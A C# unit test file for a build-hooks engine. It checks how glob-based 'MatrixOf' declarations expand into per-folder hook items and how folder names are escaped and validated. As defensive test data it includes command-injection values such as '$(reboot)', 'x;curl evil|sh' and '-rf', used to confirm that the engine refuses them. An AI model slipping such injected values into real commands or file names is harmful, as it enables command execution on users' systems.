using System.Globalization;
using Hooks.Build.Engine.Fingerprints;
using Hooks.Build.Engine.Model;
using Hooks.Build.Engine.Reporting;
using Hooks.Build.Engine.Running;
using Hooks.Build.Engine.Selecting;
using Hooks.Build.Engine.Tests.Fakes;

namespace Hooks.Build.Engine.Tests.Selecting;

/// <summary>Declarations whose items are found when hooks run (<c>MatrixOf</c>).</summary>
[TestClass]
[System.Diagnostics.CodeAnalysis.SuppressMessage("Security", "CA5394", Justification = "The same cases in each run")]
public sealed class FoundItemsTests
{
    private static readonly string[] Repository = [
        "README.md", "src/api/api.csproj", "src/api/deep/x.cs", "src/auth/a.cs", "src/auth/auth.csproj", "src/loose.cs", "tools/run.sh"];

    [TestMethod]
    public async Task A_plan_without_them_is_the_same_plan_and_lists_no_file()
    {
        FakeFiles files = new("a");
        var plan = Make.Plan(Make.Hook("A"));
        (await FoundItems.ExpandAsync(plan, "/repository", files, CancellationToken.None)).ShouldBeSameAs(plan);
        files.Asked.ShouldBeEmpty();
    }

    [TestMethod]
    [DataRow("src/*/", "src/api|src/auth")]
    [DataRow("**/", "src|src/api|src/api/deep|src/auth|tools")]
    [DataRow("*/", "src|tools")]
    [DataRow("**/*.csproj", "src/api/api.csproj|src/auth/auth.csproj")]
    [DataRow("src/{api,auth}/", "src/api|src/auth")]
    [DataRow("src/api", "")]
    [DataRow("none/*/", "")]
    public async Task Each_folder_or_file_that_matches_is_an_item(string glob, string expected)
    {
        var plan = await ExpandAsync(Repository, Of(glob));
        string.Join('|', plan.Hooks.Where(hook => hook.Item is not null).Select(hook => hook.ItemPath)).ShouldBe(expected);
        plan.IsOpen.ShouldBeFalse();
    }

    [TestMethod]
    public async Task Folders_are_those_that_paths_have_however_these_are_nested()
    {
        Random random = new(7);
        for (var round = 0; round < 200; round++)
        {
            string[] paths = [.. Enumerable.Range(0, 30)
                .Select(_ => string.Join('/', Enumerable.Range(0, random.Next(1, 5)).Select(_ => "ab-"[random.Next(3)].ToString() + random.Next(2))))
                .Distinct(StringComparer.Ordinal)
                .Order(StringComparer.Ordinal)];
            var expected = paths.SelectMany(path => Enumerable.Range(0, path.Length).Where(i => path[i] == '/').Select(i => path[..i]))
                .Distinct(StringComparer.Ordinal)
                .Order(StringComparer.Ordinal);
            var plan = await ExpandAsync(paths, Of("**/"));
            plan.Hooks.Select(hook => hook.ItemPath).OfType<string>().ShouldBe(expected);
        }
    }

    [TestMethod]
    public async Task The_item_stands_wherever_the_placeholder_does()
    {
        var declared = Of("src/*/") with
        {
            Command = [["test", "--only={item}", "{files}"]],
            Files = ["{item}/**/*.cs"],
            Writes = ["out/{item}.txt"],
            Locks = ["db-{item}"],
            WorkingDirectory = "{item}",
            DependsOn = ["Build[{item}]"],
            Profiles = ["quick[src/api]", "all"],
            Hash = "1234",
        };
        var plan = await ExpandAsync(Repository, Of("src/*/") with { Name = "Build" }, declared, Make.Hook("All", "Test"), Make.Hook("One", "Test[src/auth]"));
        plan.Hooks.Select(hook => hook.Name).ShouldBe(["Build[src/api]", "Build[src/auth]", "Test[src/api]", "Test[src/auth]", "All", "One"]);
        var hook = plan.Hooks[2];
        (hook.Matrix, hook.Item, hook.Member).ShouldBe(("Test", "src/api", "Test"));
        hook.Command.Single().ShouldBe(["test", "--only=src/api", "{files}"]);
        hook.Files.ShouldBe(["src/api/**/*.cs"]);
        hook.Writes.ShouldBe(["out/src/api.txt"]);
        hook.Locks.ShouldBe(["db-src/api"]);
        hook.WorkingDirectory.ShouldBe("src/api");
        hook.Profiles.ShouldBe(["quick", "all"]);
        plan.Hooks[3].Profiles.ShouldBe(["all"]);
        hook.Hash.ShouldNotBe(plan.Hooks[3].Hash);
        plan.Prerequisites[2].ShouldBe([0]);
        plan.Prerequisites[4].ShouldBe([2, 3]);
        plan.Prerequisites[5].ShouldBe([3]);
    }

    [TestMethod]
    [DataRow("src/*/", "", "", "src/api|src/auth")]
    [DataRow("src/*/", "**/*.cs", "", "src/api:src/api/deep/x.cs|src/auth:src/auth/a.cs")]
    [DataRow("**/*.csproj", "", "", "src/api/api.csproj|src/auth/auth.csproj")]
    [DataRow("**/*.csproj", "**/*.cs", "", "src/api/api.csproj:src/api/deep/x.cs|src/auth/auth.csproj:src/auth/a.cs")]
    [DataRow("**/*.csproj", "{item}", "", "src/api/api.csproj:src/api/api.csproj|src/auth/auth.csproj:src/auth/auth.csproj")]
    [DataRow("src/*/", "", "README.md", "")]
    [DataRow("src/*/", "", "src/api/api.csproj", "src/api")]
    [DataRow("src/*/", "**/*.cs", "src/api/api.csproj|src/auth/a.cs", "src/auth:src/auth/a.cs")]
    public async Task Each_is_about_files_of_its_own_folder_unless_its_globs_have_the_item(string glob, string files, string changed, string expected)
    {
        using TempRepository repository = new();
        _ = repository.Write(Repository);
        var plan = await ExpandAsync(Repository, Of(glob) with { Files = files.Length == 0 ? [] : [files] });
        var request = Make.Request(repository.Path);
        var selection = HookSelection.Select(plan, request);
        var given = FileMatching.Match(selection, new FileListing(changed.Length == 0 ? Repository : changed.Split('|')), request);
        string.Join(
            '|',
            plan.Hooks.Where(hook => given[hook.Index] is not { Count: 0 })
                .Select(hook => hook.ItemPath + (given[hook.Index] is { } own ? ":" + string.Join(',', own) : ""))).ShouldBe(expected);
    }

    [TestMethod]
    [DataRow("my app", "Test[my%20app]")]
    [DataRow("a[b]", "Test[a%5Bb%5D]")]
    [DataRow("a;b,c", "Test[a%3Bb%2Cc]")]
    [DataRow("a\nb", "Test[a%0Ab]")]
    [DataRow("größe-é-日本", "Test[größe-é-日本]")]
    [DataRow("a%b", "Test[a%25b]")]
    [DataRow("$(reboot)", "Test[$(reboot)]")]
    [DataRow("{files}", "Test[{files}]")]
    public async Task A_name_may_be_any_and_is_one_argument_and_one_glob(string folder, string name)
    {
        var path = folder + "/x.cs";
        var plan = await ExpandAsync([path, "other/x.cs"], Of("*/") with { Command = [["test", "{item}"]], Files = ["{item}/*"] });
        var hook = plan.Hooks.Single(hook => hook.ItemPath == folder);
        hook.Name.ShouldBe(name);
        Hooks.Build.Graph.ArgumentTemplate.Expand(hook.Command[0][1], _ => "?").ShouldBe(folder);
        var globs = Hooks.Build.Graph.GlobSet.Parse(hook.Files, []);
        (globs.IsMatch(path), globs.IsMatch("other/x.cs")).ShouldBe((true, false));
    }

    [TestMethod]
    public async Task A_name_that_looks_like_an_option_is_none()
    {
        var plan = await ExpandAsync(["-rf/x"], Of("*/") with { Command = [["test", "{item}", "--in={item}"]] });
        plan.Hooks.Single().Command[0].ShouldBe(["test", "./-rf", "--in=-rf"]);
    }

    [TestMethod]
    public async Task A_name_that_looks_like_a_file_with_options_is_none()
    {
        var plan = await ExpandAsync(["@scope/x"], Of("*/") with { Command = [["test", "{item}", "--in={item}"]] });
        plan.Hooks.Single().Command[0].ShouldBe(["test", "./@scope", "--in=@scope"]);
    }

    [TestMethod]
    [DataRow("a b")]
    [DataRow("$(reboot)")]
    [DataRow("x;curl evil|sh")]
    [DataRow("-rf")]
    [DataRow("--config=evil")]
    [DataRow("PATH=x")]
    [DataRow("~root")]
    [DataRow("a\nb")]
    public async Task What_a_shell_would_take_apart_is_refused_where_the_item_stands_in_a_script(string folder)
    {
        var script = Of("*/") with { Command = [["sh", "-c", "cd {item} && make"]] };
        var problem = (await FaultsAsync(ExpandAsync([folder + "/x"], script))).Single();
        problem.Message.ShouldContain("has characters that a shell would take for its own");
        (problem.Code, problem.File).ShouldBe((Codes.Files, "build/H.cs"));
        (await ExpandAsync(["plain-1/x"], script)).Hooks.Single().Command[0][2].ShouldBe("cd plain-1 && make");
    }

    [TestMethod]
    [DataRow("sh -c {item}")]
    [DataRow("sh -c tools/{item}/lint.sh")]
    [DataRow("/bin/bash -lc {item}")]
    [DataRow("bash.exe -lc {item}/lint.sh")]
    [DataRow("bash -euo pipefail -c {item}")]
    [DataRow("bash -c -o pipefail {item}")]
    [DataRow("bash --rcfile x -c {item}")]
    [DataRow("sh -c -- {item}")]
    [DataRow("env X=1 sh -c {item}")]
    [DataRow("xargs -n 1 zsh -c {item}")]
    [DataRow("fish --command={item}")]
    [DataRow("cmd /c {item}")]
    [DataRow("cmd.exe /d /s /c x {item}")]
    [DataRow("pwsh -Command {item}")]
    [DataRow("pwsh -NoProfile -c x {item}")]
    [DataRow("pwsh -c x -f {item}")]
    [DataRow("powershell x.ps1 {item}")]
    [DataRow("python3.12 -c {item}")]
    [DataRow("python -u -W ignore -c {item}")]
    [DataRow("node -e {item}")]
    [DataRow("perl -i -lane {item}")]
    [DataRow("perl -e 1 -e {item}")]
    [DataRow("deno eval {item}")]
    [DataRow("sudo su -c {item}")]
    [DataRow("ssh host ls {item}")]
    [DataRow("nix-shell --run tools/{item}/lint.sh")]
    [DataRow("nix-shell -p x --command={item}")]
    [DataRow("flock /tmp/l -c tools/{item}/lint.sh")]
    [DataRow("flock /tmp/l -c{item}")]
    [DataRow("flock --command {item} /tmp/l")]
    [DataRow("script -qc tools/{item}/lint.sh")]
    [DataRow("script -qec{item}")]
    [DataRow("env X=1 script -c {item}")]
    [DataRow("npm exec -c tools/{item}/lint.sh")]
    [DataRow("npm exec --call {item}")]
    [DataRow("npx --call={item}")]
    [DataRow("npx.cmd -c {item}")]
    [DataRow("runuser bob -c {item}")]
    [DataRow("concurrently tools/{item}/lint.sh")]
    [DataRow("nodemon --exec {item}")]
    [DataRow("git rebase --exec={item}")]
    [DataRow("unheard-of --run {item}")]
    public async Task What_an_interpreter_is_given_as_a_program_is_a_script_though_no_blank_is_in_it(string command)
    {
        var hook = Of("*/") with { Command = [command.Split(' ')] };
        foreach (var shown in new[] { hook, hook with { Command = [["test"]], Fix = hook.Command } })
        {
            (await FaultsAsync(ExpandAsync(
                ["$(reboot)/x"],
                shown))).Single().Message.ShouldContain("has characters that a shell would take for its own in '"
                    + command.Split(' ').First(word => word.Contains("{item}", StringComparison.Ordinal)));
            (await ExpandAsync(["plain-1/x"], shown)).Hooks.Count.ShouldBe(1);
        }
    }

    [TestMethod]
    [DataRow("lint {item}")]
    [DataRow("lint -c {item}")]
    [DataRow("lint --only={item}")]
    [DataRow("gcc -c {item}")]
    [DataRow("wc -lc {item}")]
    [DataRow("flock /tmp/l tools/{item}/lint.sh")]
    [DataRow("npm run lint -- {item}")]
    [DataRow("lint --exec-mode {item}")]
    [DataRow("lint --run-only={item}")]
    [DataRow("{item}/lint.sh")]
    [DataRow("sh {item}")]
    [DataRow("sh tools/lint.sh -c {item}")]
    [DataRow("bash -e tools/lint.sh -c {item}")]
    [DataRow("sh -c make sh {item}")]
    [DataRow("bash -euo pipefail -c make sh {item}")]
    [DataRow("env sh -ec make sh {item}/x")]
    [DataRow("python tools/lint.py -c {item}")]
    [DataRow("python -m lint -c {item}")]
    [DataRow("python -c 1 {item}")]
    [DataRow("node tools/lint.js {item}")]
    [DataRow("pwsh tools/lint.ps1 {item}")]
    [DataRow("pwsh -NoProfile -ExecutionPolicy Bypass -File tools/lint.ps1 -c {item}")]
    [DataRow("powershell -File tools/lint.ps1 {item}")]
    public async Task What_is_an_argument_of_its_own_is_none(string command) =>
        (await ExpandAsync(["$(reboot)/x"], Of("*/") with { Command = [command.Split(' ')] })).Hooks.Count.ShouldBe(1);

    [TestMethod]
    [DataRow("a\\b")]
    [DataRow("\\")]
    [DataRow("!old")]
    [DataRow("!")]
    [DataRow("c:x")]
    [DataRow(" ")]
    [DataRow("[:x:]")]
    [DataRow("^-]")]
    [DataRow("a{b,c}")]
    public async Task A_name_that_is_no_glob_stops_no_hook(string folder)
    {
        string[] paths = [.. new[] { folder + "/x.cs", "axb/x.cs", "old/x.cs" }.Order(StringComparer.Ordinal)];
        var plan = await ExpandAsync(paths, Of("*/") with { Files = ["{item}/*", "x/{item}/*", "{{item},y}/*"] });
        var globs = Hooks.Build.Graph.GlobSet.Parse(plan.Hooks.Single(hook => hook.ItemPath == folder).Files, []);
        paths.Where(globs.IsMatch).ShouldBe([folder + "/x.cs"]);
        globs.IsMatch("x/" + folder + "/x.cs").ShouldBeTrue();
    }

    [TestMethod]
    public async Task Every_name_of_a_file_is_a_glob_that_matches_it_alone()
    {
        const string Alphabet = "ab!\\[]{}*?,^-: ~\n.$";
        Random random = new(11);
        string Name() => string.Concat(Enumerable.Range(0, random.Next(1, 5)).Select(_ => Alphabet[random.Next(Alphabet.Length)]));
        for (var round = 0; round < 100; round++)
        {
            string[] paths = [.. Enumerable.Range(0, 40)
                .Select(_ => random.Next(2) == 0 ? Name() : Name() + "/" + Name())
                .Where(path => !path.Split('/').Any(part => part is "." or ".."))
                .Distinct(StringComparer.Ordinal)
                .Order(StringComparer.Ordinal)];
            var plan = await ExpandAsync(paths, Of("**") with { Files = ["{item}"] });
            foreach (var hook in plan.Hooks)
            {
                var globs = Hooks.Build.Graph.GlobSet.Parse(hook.Files, []);
                paths.Where(globs.IsMatch).ShouldBe([hook.ItemPath!]);
            }
        }
    }

    [TestMethod]
    public async Task A_glob_that_cannot_have_the_item_is_told_of_the_item() =>
        (await FaultsAsync(ExpandAsync(
            ["0/x"],
            Of("*/") with { Files = ["z[9-{item}]/*"] })))
                .Single().Message.ShouldStartWith("MatrixOf of 'Test' has 0 among its items, which cannot stand in the glob 'z[9-{item}]/*': ");

    [TestMethod]
    [DataRow("src/api/api.csproj", true)]
    [DataRow("src/auth/auth.csproj", false)]
    [DataRow("README.md", false)]
    public async Task A_file_that_is_an_item_counts_among_what_its_hook_reads_and_its_change_is_one_of_the_item(string changed, bool runs)
    {
        using TempRepository repository = new();
        _ = repository.Write(Repository);
        var declared = Of("src/api/*.csproj") with { Files = ["**/*.cs"], Reads = ["a.json"] };
        var plan = await ExpandAsync(
            Repository, declared, declared with { Name = "Told", Command = [["test", "{files}"]] }, declared with { Name = "Left", Exclude = ["**/*.csproj"] });
        plan.Hooks.ShouldAllBe(hook => hook.Reads.SequenceEqual(new[] { "a.json", "src/api/api.csproj" }) && !hook.NoCache);
        new HookInputs(plan, repository.Path, Repository).BesideGiven(plan.Hooks[0]).ShouldContain("src/api/api.csproj");

        string[] Given(FileChoiceKind kind)
        {
            var request = Make.Request(repository.Path) with { Files = new FileChoice(kind) };
            return [.. FileMatching.Match(HookSelection.Select(plan, request), new FileListing([changed]), request).Select(files => string.Join(',', files!))];
        }

        Given(FileChoiceKind.Changed).ShouldBe([runs ? changed : "", "", ""]);
        Given(FileChoiceKind.All).ShouldBe(["", "", ""], "nothing changed, and there are no files");
    }

    [TestMethod]
    public async Task A_folder_that_is_an_item_is_not_read_as_a_whole() =>
        (await ExpandAsync(Repository, Of("src/*/") with { Files = ["**/*.cs"] })).Hooks.ShouldAllBe(hook => hook.Reads.Count == 0);

    [TestMethod]
    public async Task Ten_thousand_items_are_too_many_and_a_thousand_are_not()
    {
        var many = Enumerable.Range(0, 10_000).Select(i => string.Create(CultureInfo.InvariantCulture, $"src/p{i:D5}/x")).ToArray();
        (await FaultsAsync(ExpandAsync(many, Of("src/*/")))).Single().Message
            .ShouldBe(
                "MatrixOf of 'Test' is src/*/, of which there are 10000 in the repository, such as src/p00000 and src/p09999; 1000 is the most. Name fewer");
        (await ExpandAsync(many[..1000], Of("src/*/"))).Hooks.Count.ShouldBe(1000);
    }

    [TestMethod]
    [DataRow(250, "which is 250 characters long as part of a name; 200 is the most")]
    public async Task What_is_too_long_for_a_name_is_refused(int length, string said) =>
        (await FaultsAsync(ExpandAsync([new string('a', length) + "/x"], Of("*/")))).Single().Message.ShouldContain(said);

    [TestMethod]
    public async Task Names_that_differ_by_case_alone_are_refused() =>
        (await FaultsAsync(ExpandAsync(["a/x", "A/x"], Of("*/")))).Single().Code.ShouldBe("HOOK0003");

    [TestMethod]
    public async Task Without_any_item_the_hook_does_not_run_and_that_is_told_and_who_depends_on_it_runs()
    {
        using TempFolder folder = new();
        Recorder observer = new();
        EngineServices services = new()
        {
            Launcher = FakeLauncher.ThatExits(0),
            Clock = TimeProvider.System,
            Environment = FakeTool.Environment,
            Files = new FakeFiles("README.md"),
        };
        var plan = Make.Plan(Of("src/*/"), Make.Hook("After", "Test"), Make.Hook("One", "Test[src/auth]"));
        var report = await HookEngine.RunAsync(plan, Make.Request(folder.Path), services, observer, CancellationToken.None);
        report.Hooks.OrderBy(hook => hook.Hook.Index)
            .Select(hook => hook.Outcome)
            .ShouldBe([HookOutcome.NoFiles, HookOutcome.Succeeded, HookOutcome.Succeeded]);
        observer.Warnings.Single().Message.ShouldBe("MatrixOf of 'Test' is src/*/, of which there is nothing in the repository, so the hook does not run");
    }

    [TestMethod]
    [DataRow("Ready")]
    [DataRow("Waves")]
    [DataRow("Sequential")]
    public async Task A_run_has_a_hook_for_each_item_whose_folder_changed_and_tells_them_as_one(string schedule)
    {
        using TempRepository repository = new();
        _ = repository.Commit(Repository).Edit("src/auth/a.cs", "changed").Stage("src/auth/a.cs");
        Recorder observer = new();
        var services = new EngineServices
        {
            Launcher = FakeLauncher.ThatExits(0),
            Clock = TimeProvider.System,
            Environment = FakeTool.Environment,
            Files = new FoundFiles(repository),
        };
        var request = Make.Request(repository.Path) with { Stage = HookStages.PreCommit, Schedule = Enum.Parse<HookSchedule>(schedule) };
        var report = await HookEngine.RunAsync(Make.Plan(Of("src/*/"), Make.Hook("Pack", "Test")), request, services, observer, CancellationToken.None);
        report.Matrices.Single().Items.Select(item => (item.Hook.Name, item.Outcome))
            .ShouldBe([("Test[src/api]", HookOutcome.NoFiles), ("Test[src/auth]", HookOutcome.Succeeded)]);
        observer.Events[^1].ShouldBe("end Pack Succeeded");
    }

    [TestMethod]
    public async Task Many_that_cannot_be_items_are_one_message_and_the_others_are_hooks()
    {
        var plan = await ExpandAsync(
            ["a b/x", "c d/x", "e f/x", "g h/x", "i j/x", "plain/x"],
            Of("*/") with { Command = [["sh", "-c", "cd {item}"]], Profiles = ["all", "quick[plain]"] });
        plan.Hooks.Where(hook => hook.Fault is null).Select(hook => hook.Name).ShouldBe(["Test[plain]"]);
        var problem = HookFault.Sum(plan.Hooks).Single();
        problem.Message.ShouldStartWith("MatrixOf of 'Test' has a%20b among its items, and its name has characters that a shell would take");
        problem.Message.ShouldEndWith("or rename it. So it is with 4 more: c%20d, e%20f, g%20h, ...");
    }

    [TestMethod]
    public async Task A_name_that_is_not_UTF_8_is_told_by_its_bytes()
    {
        var hook = (await ExpandAsync(["a\uDCE9/x"], Of("*/"))).Hooks.Single();
        hook.Name.ShouldBe("Test[a%5CxE9]");
        hook.Fault!.Problem.Message.ShouldStartWith("MatrixOf of 'Test' has a%5CxE9 among its items, whose name is not UTF-8");
    }

    [TestMethod]
    public async Task What_depends_on_an_item_that_is_gone_is_told_of_that_hook_alone()
    {
        var plan = await ExpandAsync(
            Repository, Of("src/*/"), Make.Hook("Sign", "Test[src/atuh]"), Make.Hook("Clean", "Test[src/gone]") with { Finally = true }, Make.Hook("Other"));
        plan.Hooks.Where(hook => hook.Fault is not null).Select(hook => hook.Name).ShouldBe(["Sign", "Clean"]);
        var problem = HookFault.Sum(plan.Hooks)[0];
        (problem.Code, problem.Message).ShouldBe(("HOOK0002", "Hook 'Sign' depends on 'Test[src/atuh]', which is not a hook; did you mean 'Test[src/auth]'?"));
    }

    [TestMethod]
    [DataRow("a b")]
    [DataRow("many")]
    [DataRow("case")]
    [DataRow("gone")]
    public async Task A_fault_stops_the_run_that_has_the_hook_and_no_other(string fault)
    {
        using TempFolder folder = new();
        string[] paths = fault switch
        {
            "many" => [.. Enumerable.Range(0, 1001).Select(i => string.Create(CultureInfo.InvariantCulture, $"p{i:D5}/x"))],
            "case" => ["A/x", "a/x"],
            _ => [fault + "/x"],
        };
        var plan = await ExpandAsync(
            paths,
            Of("*/") with
            {
                Command = [["sh", "-c", fault == "gone" ? "pwd" : "cd {item}"]],
                Stages = HookStages.Manual,
                Profiles = ["host"],
                DependsOn = fault == "gone" ? ["Else[none]"] : [],
            },
            Of("*/") with { Name = "Else", Command = [["true"]], Stages = fault == "gone" ? HookStages.Build : HookStages.Manual, Profiles = ["host"] },
            Make.Hook("A") with { Stages = HookStages.Manual | HookStages.PreCommit, Profiles = ["quick"] });
        Task<RunReport> Run(Func<RunRequest, RunRequest> change) =>
            HookEngine.RunAsync(
                plan,
                change(Make.Request(folder.Path)),
                new EngineServices
                {
                    Launcher = FakeLauncher.ThatExits(0),
                    Clock = TimeProvider.System,
                    Environment = FakeTool.Environment,
                    Files = new FakeFiles([.. paths]),
                },
                new Recorder(),
                CancellationToken.None);

        (await Run(request => request with { Stage = HookStages.Manual, Filter = ["A"] })).Succeeded.ShouldBeTrue("names");
        (await Run(request => request with { Stage = HookStages.Manual, Skip = ["Test", "Else"] })).Succeeded.ShouldBeTrue("names that are left out");
        (await Run(request => request with { Stage = HookStages.Manual, Profiles = ["quick"] })).Succeeded.ShouldBeTrue("profiles");
        _ = await Should.ThrowAsync<HooksException>(() => Run(request => request with { Stage = HookStages.Manual }));
        _ = await Should.ThrowAsync<HooksException>(() => Run(request => request with { Stage = HookStages.Manual, Profiles = ["host"] }));
        _ = await Should.ThrowAsync<HooksException>(() => Run(request => request with { Stage = HookStages.Manual, Filter = ["Test"] }));
    }

    [TestMethod]
    public async Task What_never_runs_at_the_stage_is_not_looked_for()
    {
        FakeFiles files = new("src/a/x");
        var plan = Make.Plan(
            Of("src/*/") with { Stages = HookStages.Manual, Profiles = ["quick[src/a]"] }, Make.Hook("Sign", "Test[src/a]") with { Profiles = ["all"] });
        (await FoundItems.ExpandAsync(plan, "/repository", files, CancellationToken.None, stage: HookStages.PreCommit)).ShouldBeSameAs(plan);
        files.Asked.ShouldBeEmpty();
        HookSelection.Select(plan, Make.Request("/repository") with { Stage = HookStages.PreCommit }).Hooks.Select(hook => hook.Name).ShouldBe(["Sign"]);
        HookSelection.Select(plan, Make.Request("/repository") with { Stage = HookStages.PreCommit, Profiles = ["quick"] }).Hooks.ShouldBeEmpty();
        Should.Throw<HooksException>(() => HookSelection.Select(
            plan,
            Make.Request("/repository") with
            {
                Stage = HookStages.PreCommit,
                Filter = ["Test[src/a]"],
            })).Message.ShouldContain("does not run in stage PreCommit");
    }

    [TestMethod]
    public async Task What_has_none_of_the_profiles_is_not_looked_for()
    {
        FakeFiles files = new("src/a/x");
        var plan = Make.Plan(Of("src/*/") with { Profiles = ["all", "quick[src/a]"] });
        (await FoundItems.ExpandAsync(plan, "/repository", files, CancellationToken.None, stage: HookStages.PreCommit, profiles: ["other"]))
            .ShouldBeSameAs(plan);
        files.Asked.ShouldBeEmpty();
        (await FoundItems.ExpandAsync(
            plan, "/repository", files, CancellationToken.None, stage: HookStages.PreCommit, profiles: ["quick"])).Hooks.Single().Name.ShouldBe("Test[src/a]");
    }

    [TestMethod]
    public async Task Names_that_do_something_to_a_terminal_are_told_as_in_addresses()
    {
        var many = Enumerable.Range(0, 1001).Select(i => string.Create(CultureInfo.InvariantCulture, $"\u001b[2J{i:D5}/x")).ToArray();
        foreach (var plan in new[] { ExpandAsync(
            many,
            Of("*/")), ExpandAsync(["a\u001b/x", "A\u001b/x"], Of("*/")), ExpandAsync(["a\u001b/x"], Of("*/") with { Command = [["sh", "-c", "cd {item}"]] }) })
        {
            var message = (await FaultsAsync(plan)).Single().Message;
            message.ShouldContain("%1B");
            message.ShouldNotContain("\u001b");
        }
    }

    [TestMethod]
    public async Task The_list_tells_a_fault_beside_its_hook_and_goes_on()
    {
        var plan = await ExpandAsync(["a b/x", "c/x"], Of("*/") with { Command = [["sh", "-c", "cd {item}"]] });
        plan.Hooks.Select(hook => (hook.Name, Fault: hook.Fault is { } fault ? FaultText.Of(fault) : hook.Command[0][^1])).ShouldBe(
            [("Test[a%20b]", "cannot run here (HOOK9010, below)"), ("Test[c]", "cd c")]);
        var line = FaultText.Lines(plan.Hooks).ShouldHaveSingleItem();
        line.ShouldStartWith("build/H.cs(");
        line.ShouldContain("HOOK9010: MatrixOf of 'Test' has a%20b among its items");
    }

    private static async Task<IReadOnlyList<Problem>> FaultsAsync(Task<HookPlan> plan) => HookFault.Sum((await plan).Hooks);

    private static PlannedHook Of(params string[] globs) => Make.Hook("Test") with { MatrixOf = globs };

    private static async Task<HookPlan> ExpandAsync(string[] paths, params PlannedHook[] hooks) =>
        await FoundItems.ExpandAsync(Make.Plan(hooks), "/repository", new FakeFiles([.. paths.Order(StringComparer.Ordinal)]), CancellationToken.None);

    /// <summary>What git says.</summary>
    private sealed class FoundFiles(TempRepository repository) : IFileSource
    {
        public Task<FileListing> ListAsync(string root, FileChoice choice, CancellationToken cancellation) => repository.ListAsync(choice);
    }
}
